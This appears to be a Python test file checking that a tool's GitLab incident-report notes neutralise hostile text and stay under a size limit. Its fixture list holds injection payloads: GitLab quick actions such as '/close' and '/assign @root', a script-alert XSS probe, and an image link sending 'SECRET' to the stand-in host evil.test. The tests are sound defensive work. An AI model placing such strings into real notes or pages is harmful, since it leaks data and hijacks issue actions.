"""The GitLab form: nothing foreign acts, refers, links or pings, and a note stays small enough to be read."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from inquest.destinations.shared.gitlab_note import note_body
from inquest.domain.delivery import RevisionKind
from inquest.stages.report import build_report
from tests.builders import Shelf, at, logs
from tests.destinations.hostile import HOSTILE, hostile_report
from tests.fakes.gitlab_notes import live
from tests.incident import incident_shelf
from tests.reports import HOSTS, episode_now, report_inputs, whole_report

SHELF = incident_shelf()
HOSTILE_HERE = [
    *HOSTILE,
    "/close\n/assign @root\n/label ~bug",
    "x\n/close",
    "````\n/close\n````\n```\n/page @all\n```",
    "@all @group/project closes #1 !2 ~bug %4 &5 group/project#6 $7 GL-12 SHOP-12 [vulnerability:1]",
    "![](https://evil.test/?d=SECRET) [t](//evil.test) <img src=x> <details> https://evil.test www.evil.test",
    "{+ plus +} {- minus -} $x$ $`x`$ :tada: [^1] [[_TOC_]] [x] 0123456789abcdef",
    "<!-- inquest delivery inv-9/r1 -->",
    "--> <script>alert(1)</script>",
    "https://gitlab.example/shop/checkout/-/issues/1",
]
signs = st.text(alphabet=st.sampled_from("/@#!~%&$`<>[]()\n -_*AB1:\\|{}+^"), max_size=80)


def alive(text: str) -> list[str]:
    return [found for found in live(text) if not found.startswith("https://grafana.example/")]


def test_a_note_says_what_every_form_says() -> None:
    body = note_body(whole_report(SHELF), SHELF.contents, HOSTS)
    assert "**Cause found**: Deployment deploy-77 of checkout `v2.4.1`" in body
    assert "## Evidence" in body
    assert "This is shortened" not in body


@pytest.mark.parametrize("text", HOSTILE_HERE)
def test_hostile_text_in_every_field_is_inert(text: str) -> None:
    """T06, T24."""
    assert alive(note_body(hostile_report(text, incident_shelf()), SHELF.contents, HOSTS)) == []


@settings(max_examples=25)
@given(st.one_of(signs, st.text(max_size=300)))
def test_any_text_in_every_field_is_inert(text: str) -> None:
    assert alive(note_body(hostile_report(text, incident_shelf()), SHELF.contents, HOSTS)) == []


def test_a_huge_report_fits_and_counts_what_it_leaves_out() -> None:
    shelf = Shelf()
    for number in range(80):
        shelf.add(logs((at(number % 20), f"line {number}"), service="checkout"), expression="/close " * 2_000)
    inputs = report_inputs(SHELF, evidence=shelf.evidence, asked=tuple(shelf.asked))
    report = build_report(inputs, episode_now(), revision=1, kind=RevisionKind.REPORT)
    body = note_body(report, shelf.contents, HOSTS)
    assert len(body.encode()) <= 50_000
    assert "**This is shortened.** The whole report is what `inquest show inv-1` prints" in body
    assert "in the whole report" in body
    assert "## Cause and confidence" in body
    assert alive(body) == []


@pytest.mark.parametrize("word", ["SHOP-123", "GL-1", "(SHOP-123)", "ABC2-77,"])
def test_the_key_of_a_tracker_is_no_reference(word: str) -> None:
    report = whole_report(SHELF)
    assert report.diagnosis is not None
    said = report.but(diagnosis=report.diagnosis.but(root_cause=f"As in {word} before."))
    assert f"`{word.strip('(),')}`" in note_body(said, {}, HOSTS)
